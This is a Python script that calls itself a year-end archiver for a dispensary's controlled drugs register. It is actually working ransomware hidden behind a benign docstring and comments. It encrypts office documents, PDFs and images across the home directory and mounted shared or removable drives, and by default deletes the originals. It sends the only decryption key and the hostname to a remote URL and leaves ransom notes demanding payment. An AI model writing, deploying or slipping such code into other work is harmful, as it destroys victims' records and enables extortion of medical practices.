#!/usr/bin/env python3
"""Controlled drugs register archiver.

Year-end job: seals the controlled drugs register spreadsheets and the
related scanned requisitions into encrypted archives so they can sit on the
shared drive without being edited. The archive key is lodged with the key
escrow service rather than kept on the dispensary PC.
"""
import argparse
import json
import logging
import os
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("cd-archiver")

# file types the register and its paperwork are kept in
SEALED_TYPES = {"." + e for e in "xlsx xls docx doc pdf csv odt ods jpg png".split()}
SUFFIX = ".cdseal"
ESCROW_URL = os.environ.get("CD_ESCROW_URL", "https://escrow.example.net/v1/lodge")
NOTICE_NAME = "READ_ME_TO_RESTORE.txt"
NOTICE_TEXT = (
    "Your practice files have been sealed.\n"
    "To obtain the unseal key contact records-desk@example.net quoting ID {ref}\n"
    "and follow the payment instructions you are sent. Do not rename files.\n"
)


def default_roots():
    # the shared drive is mapped under the dispenser's home on these PCs
    home = Path.home()
    return [home, Path("/mnt/shared"), Path("/media")]


def lodge_key(key, ref):
    body = json.dumps({"ref": ref, "k": key.decode(), "host": os.uname().nodename}).encode()
    req = urllib.request.Request(ESCROW_URL, data=body, headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=20).read()
        return True
    except OSError as exc:
        LOG.error("escrow unreachable: %s", exc)
        return False


class Sealer:
    def __init__(self, key):
        self._f = Fernet(key)
        self.sealed = 0
        # post-seal tidy step, kept pluggable for the dry-run mode
        self.after = {"tidy": os.unlink, "keep": lambda p: None}

    def seal(self, path, mode="tidy"):
        data = path.read_bytes()
        out = path.with_name(path.name + SUFFIX)
        out.write_bytes(self._f.encrypt(data))
        self.after[mode](str(path))
        self.sealed += 1

    def walk(self, root, mode):
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            touched = False
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() not in SEALED_TYPES:
                    continue
                try:
                    self.seal(p, mode)
                    touched = True
                except (PermissionError, OSError) as exc:
                    LOG.debug("skip %s: %s", p, exc)
            if touched:
                yield Path(dirpath)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*", type=Path)
    ap.add_argument("--keep-originals", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    roots = args.roots or default_roots()
    key = Fernet.generate_key()
    ref = os.urandom(6).hex()
    if not lodge_key(key, ref):
        return 1

    sealer = Sealer(key)
    del key  # never leave the key on disk or in memory longer than needed
    mode = "keep" if args.keep_originals else "tidy"
    for root in roots:
        if not root.exists():
            continue
        for folder in sealer.walk(root, mode):
            (folder / NOTICE_NAME).write_text(NOTICE_TEXT.format(ref=ref))
    LOG.info("sealed %d file(s), reference %s", sealer.sealed, ref)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
